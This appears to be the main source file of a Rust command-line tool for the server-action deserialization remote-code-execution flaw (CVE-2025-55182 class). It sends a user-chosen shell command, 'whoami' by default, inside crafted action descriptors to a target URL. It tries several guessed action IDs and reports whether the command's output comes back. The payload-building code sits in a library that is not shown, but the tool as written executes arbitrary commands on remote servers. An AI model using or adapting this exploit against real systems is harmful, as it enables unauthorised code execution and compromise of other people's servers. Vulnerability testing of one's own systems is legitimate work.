//! probe an endpoint for the server-action deserialization RCE
//!
//! structured traces are available by opting in through the environment:
//! RUST_LOG="action_probe=trace" action-probe --target http://192.168.0.104:3000/dashboard/tools/cve-demo
use std::time::Duration;

use clap::Parser;
use tracing::subscriber::set_global_default;
use tracing_subscriber::EnvFilter;

use action_probe::prelude::*;

/// Probe a framework server-action endpoint for the action-deserialization
/// remote-code-execution flaw (CVE-2025-55182 class)
#[derive(Parser, Debug)]
#[command(name = "action-probe", version, about)]
struct Args {
    /// url of the endpoint to probe
    #[arg(short, long)]
    target: String,

    /// shell command embedded in the action descriptor
    #[arg(short, long, default_value = "whoami")]
    command: String,

    /// candidate action identifier; repeat to try several (defaults to the
    /// built-in guesses, ending with the empty identifier)
    #[arg(short = 'a', long = "action-id")]
    action_ids: Vec<String>,

    /// ceiling on each request/response exchange, in seconds
    #[arg(long, default_value_t = 10)]
    timeout: u64,

    /// emit the results as a json report instead of text
    #[arg(long)]
    json: bool,
}

fn main() -> Result<(), Box<dyn std::error::Error>> {
    let filter = EnvFilter::from_default_env();

    let subscriber = tracing_subscriber::fmt().with_env_filter(filter).finish();

    set_global_default(subscriber)?;

    let args = Args::parse();

    let config = ProbeConfig::new(&args.target)?
        .with_command(args.command)
        .with_timeout(Duration::from_secs(args.timeout));

    let candidates = if args.action_ids.is_empty() {
        CandidateList::default()
    } else {
        CandidateList::with_candidates(args.action_ids).build()?
    };

    // bring your own client; redirect and TLS behavior stay at reqwest's defaults
    let req_client = reqwest::blocking::Client::builder()
        .build()
        .map_err(|source| ProbeError::ClientBuildError { source })?;

    let prober = Prober::new(BlockingClient::with_client(req_client), config);

    if args.json {
        let results = prober.run(&candidates)?;

        println!("{}", serde_json::to_string_pretty(&results)?);

        return Ok(());
    }

    println!("CVE-2025-55182 server-action probe");
    println!("{}", "=".repeat(50));
    println!("Target: {}\n", prober.config().target());

    for action_id in &candidates {
        let label = if action_id.is_empty() {
            "(empty)"
        } else {
            action_id.as_str()
        };

        println!("Testing Action-ID: '{label}'");

        let result = prober.probe_one(action_id)?;

        println!("  {}\n", result.outcome);
    }

    println!("\nNote:");
    println!("A response echoing command output (a username such as 'root') means the action deserializer ran the command.");
    println!("Connection resets or other errors usually mean a valid action identifier is still required.");

    Ok(())
}
